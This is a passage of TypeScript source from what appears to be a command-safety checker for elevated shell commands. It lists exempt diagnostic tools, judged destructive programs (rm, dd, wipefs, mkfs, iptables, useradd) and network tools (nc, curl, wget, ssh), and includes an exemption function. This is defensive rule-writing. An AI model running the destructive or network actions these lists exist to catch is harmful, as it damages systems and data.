    "lsof",
    "lshw",
    "dmidecode",
    "ps",
    "pgrep",
    "pidof",
    "top",
    "htop",
    "atop",
    "w",
    "who",
    "last",
    "lastlog",
    "getent",
    "env",
    "printenv",
    "which",
    "type",
    "whereis",
    "command",
    "ss",
    "netstat",
    "ping",
    "traceroute",
    "tracepath",
    "mtr",
    "dig",
    "nslookup",
    "host",
    "arp",
    "route",
    "tcpdump",
    "nc",
    "curl",
    "wget",
    "openssl",
    "ssh-keygen",
    "ssh-keyscan",
    "timedatectl",
    "loginctl",
    "localectl",
    "systemd-analyze",
    "sensors",
    "smartctl",
    "nvidia-smi",
    "dmesg",
    "journalctl",
    "getenforce",
    "sestatus",
    "aa-status",
    "ulimit",
    "umask",
    "history",
  ],
  // programs whose effects the rules above read (removals, deletes, writes, service and system changes)
  judged: [
    "rm",
    "rmdir",
    "unlink",
    "shred",
    "cp",
    "mv",
    "ln",
    "install",
    "rsync",
    "scp",
    "tee",
    "dd",
    "truncate",
    "touch",
    "mkdir",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "setfacl",
    "sed",
    "awk",
    "gawk",
    "tar",
    "unzip",
    "gzip",
    "gunzip",
    "xz",
    "zip",
    "kill",
    "pkill",
    "killall",
    "systemctl",
    "service",
    "mount",
    "umount",
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "firewall-cmd",
    "ip",
    "sysctl",
    "modprobe",
    "crontab",
    "useradd",
    "usermod",
    "userdel",
    "groupadd",
    "groupdel",
    "passwd",
    "chpasswd",
    "visudo",
    "git",
    "docker",
    "podman",
    "kubectl",
    "helm",
    "psql",
    "mysql",
    "sqlite3",
    "redis-cli",
    "mongosh",
    "ssh",
    "tmux",
    "screen",
    "timeout",
    "nice",
    "xargs",
    "parallel",
    "update-alternatives",
    "certbot",
    "su",
    "runuser",
    "zfs",
    "zpool",
    "cryptsetup",
    "hwclock",
    "wg",
    "wg-quick",
    "openvpn",
    "tailscale",
    "grubby",
    "losetup",
    "auditctl",
    "semanage",
    "setenforce",
    "mdadm",
    "parted",
    "fdisk",
    "sfdisk",
    "wipefs",
    "mkfs",
    "mkswap",
    "swapoff",
    "swapon",
    "efibootmgr",
    "grub-install",
    "update-grub",
    "setcap",
    "chronyc",
    "ntpdate",
    "at",
    "atrm",
    "virsh",
    "lxc",
    "incus",
  ],
  // read-only tools of storage, firewall and security stacks
  storage: [
    "lvs",
    "vgs",
    "pvs",
    "lvdisplay",
    "vgdisplay",
    "pvdisplay",
    "lvscan",
    "vgscan",
    "pvscan",
    "iptables-save",
    "ip6tables-save",
    "ebtables-save",
    "flash_info",
    "mtdinfo",
    "ausearch",
    "aureport",
    "fail2ban-client",
    "sestatus",
    "getsebool",
    "showmount",
    "exportfs",
    "findmnt",
    "mountpoint",
    "quota",
    "repquota",
  ],
  // package managers: removals are read; installs add software the task asked for
  packages: [
    "apt",
    "apt-get",
    "apt-cache",
    "aptitude",
    "dpkg",
    "dnf",
    "yum",
    "rpm",
    "zypper",
    "pacman",
    "apk",
    "snap",
    "flatpak",
    "brew",
    "port",
    "pip",
    "pip3",
    "npm",
    "pnpm",
    "yarn",
    "gem",
    "cargo",
    "go",
    "conda",
  ],
};
const EXEMPT_NAMES = new Set(Object.values(ELEVATED_EXEMPT).flat());

/** Programs exempt only in their read-only modes (`nginx -t`, `apachectl configtest`). */
const READ_ONLY_MODES: Record<string, RegExp> = {
  nginx: /^-[tTvV]$/,
  apachectl: /^(?:-t|-S|-M|configtest|status|-v|-V)$/,
  apache2ctl: /^(?:-t|-S|-M|configtest|status|-v|-V)$/,
  haproxy: /^-c$/,
  sshd: /^-[tT]$/,
  named: /^-v$/,
};

function elevatedExempt(name: string, args: JudgedArg[]): boolean {
  if (name === "" || EXEMPT_NAMES.has(name) || OWN_TEARDOWN_RULES.test(name) || INFRA_CLIS.has(name)) return true;
  if (READ_ONLY_MODES[name] && args.some((a) => READ_ONLY_MODES[name]!.test(a.text))) return true;
  // Shells and interpreters given their code on the line: the code was read.
  const lang = SHELLS.has(name) ? "shell" : interpreterLanguage(name);
  if (lang && args.some((a) => /^-[A-Za-z]*[ceE]$|^--eval$|^--command$/.test(a.text))) return true;
  return false;
}
